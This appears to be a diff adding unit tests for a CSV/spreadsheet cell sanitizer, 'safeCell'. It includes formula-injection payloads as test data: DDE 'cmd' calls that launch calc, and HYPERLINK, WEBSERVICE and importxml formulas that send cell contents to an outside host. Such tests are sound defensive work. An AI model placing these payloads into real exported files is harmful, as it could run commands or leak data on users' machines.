@@ -23,3 +23,31 @@ for (const cell of [
 for (const cell of ['biasa', '@dr.ayu menjawab', '@dr.ayu: jawab', '@toko', '- satu', '10% diskon', '']) {
   test(`${JSON.stringify(cell)} stays as it is`, () => assert.equal(safeCell(cell), cell))
 }
+
+for (const [cell, safe] of [
+  ["Promo;=cmd|' /C calc'!A0;x", "Promo;'=cmd|' /C calc'!A0;x"],
+  ['Promo, =HYPERLINK("https://x.id?"&A1)', 'Promo, \'=HYPERLINK("https://x.id?"&A1)'],
+  ["satu\n+2+cmd|' /C calc'!A0", "satu\n'+2+cmd|' /C calc'!A0"],
+  ['satu\r\n-WEBSERVICE ("https://x.id")', 'satu\r\n\'-WEBSERVICE ("https://x.id")'],
+  ['a;@importxml("https://x.id";"//a")', 'a;\'@importxml("https://x.id";"//a")'],
+  ['a;＝SUM(A1)', "a;'＝SUM(A1)"],
+] as const) {
+  test(`${JSON.stringify(cell)} is no formula where the file is cut at another sign either`, () =>
+    assert.equal(safeCell(cell), safe))
+}
+
+for (const cell of [
+  'Beli 1;+1 gratis, -10% (khusus hari ini)',
+  'satu\n- dua (baru)\n- tiga | empat',
+  'jawab\n@dr.ayu (dokter)',
+  'hasilnya\n=====\nbagus',
+  'a, =1+1',
+]) {
+  test(`${JSON.stringify(cell)} is a caption, and stays`, () => assert.equal(safeCell(cell), cell))
+}
+
+test('a long caption is looked at in time that grows with its length alone', () => {
+  const began = performance.now()
+  for (const part of [',=', ';+|', '\n-', ',=a', '=|', ', =|!']) safeCell(part.repeat(20_000 / part.length))
+  assert.ok(performance.now() - began < 1000)
+})
